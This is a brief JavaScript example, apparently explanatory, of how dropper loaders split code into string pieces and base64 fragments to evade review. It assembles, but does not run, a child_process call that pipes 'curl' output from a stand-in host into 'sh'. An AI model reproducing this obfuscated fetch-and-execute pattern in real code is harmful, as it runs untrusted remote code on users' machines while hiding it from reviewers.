// source: split-string obfuscation in droppers (e.g. the 2022-2024 "string concatenation" loaders): the
// code is assembled from short constant pieces and a base64 part, so no reader sees it whole.
const p = ['requ', 'ire("chi', 'ld_pro', 'cess").ex', 'ec("curl -s https://stage.loader-demo.example/x | sh")'];
const tail = Buffer.from('Ly8gcnVu', 'base64').toString();
const code = p.join('') + tail;
module.exports = code;
